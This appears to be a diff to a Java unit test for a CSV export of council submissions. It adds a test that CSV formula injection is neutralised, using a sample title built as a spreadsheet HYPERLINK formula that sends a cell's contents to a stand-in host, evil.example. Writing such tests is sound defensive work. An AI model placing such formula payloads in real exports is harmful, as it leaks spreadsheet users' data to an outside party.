@@ -38,7 +38,7 @@ class SubmissionsCsvTest {
         String text = new String(SubmissionsCsv.render(export, NAMES), StandardCharsets.UTF_8);
 
         try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
-                .parse(new StringReader(text))) {
+                .parse(new StringReader(text.substring(1)))) {
             assertThat(parser.getHeaderNames()).containsExactly("ref", "title", "description", "link", "submitted_by",
                     "submitted_on", "status", "principle", "race", "disability", "gender", "age", "religion or belief",
                     "sexual orientation", "new arrivals");
@@ -49,6 +49,23 @@ class SubmissionsCsvTest {
             assertThat(rows.get(1).toList()).containsExactly("G2", "Welcome pack", "", "", "Cllr Kevin Foster",
                     "2008-10-10", "tabled", "", "1", "", "", "", "", "", "1");
         }
-        assertThat(text).doesNotStartWith("\uFEFF").contains("\r\n");
+        assertThat(text).startsWith("\uFEFFref,title,").contains("\r\n");
+    }
+
+    @Test
+    void noTypedCellIsReadAsAFormula() throws IOException {
+        Submission hostile = new Submission(3, 1, 3, "=HYPERLINK(\"http://evil.example/?x=\"&B2,\"toolkit\")", "+44 24 7683",
+                "@import", List.of("race"), Optional.of("-fairness"), "U0SUE", Optional.of("\tCllr"),
+                SubmissionStatus.TABLED, Optional.empty(), Instant.parse("2008-10-10T09:00:00Z"));
+        var export = new GoodPracticeService.Export(GROUP, List.of(hostile), Strands.statutory(), LocalDate.of(2008, 10, 22));
+
+        String text = new String(SubmissionsCsv.render(export, NAMES), StandardCharsets.UTF_8);
+
+        try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
+                .parse(new StringReader(text.substring(1)))) {
+            assertThat(parser.getRecords().get(0).toList()).startsWith("G3",
+                    "'=HYPERLINK(\"http://evil.example/?x=\"&B2,\"toolkit\")", "'+44 24 7683", "'@import", "'\tCllr",
+                    "2008-10-10", "tabled", "'-fairness", "1");
+        }
     }
 }
